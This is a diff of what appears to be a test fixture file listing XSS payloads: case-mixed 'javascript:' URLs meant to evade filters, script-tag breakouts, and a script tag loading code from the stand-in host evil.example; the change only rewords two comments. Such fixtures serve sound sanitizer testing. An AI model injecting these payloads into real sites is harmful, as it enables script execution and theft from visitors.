@@ -1,4 +1,4 @@
-/** Addresses that run something, or lead where no link may, in the spellings that get past filters. */
+/** URLs that run something or are forbidden in links, in spellings that evade filters. */
 export const ADDRESSES: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -38,7 +38,7 @@ export const ADDRESSES: readonly string[] = [
   '#"><script>alert(1)</script>',
 ]
 
-/** Words and markup that become elements or attributes where one step forgets to escape. */
+/** Texts and markup that become elements or attributes where a step forgets to escape. */
 export const MARKUP: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC="https://evil.example/a.js"></SCRIPT>',
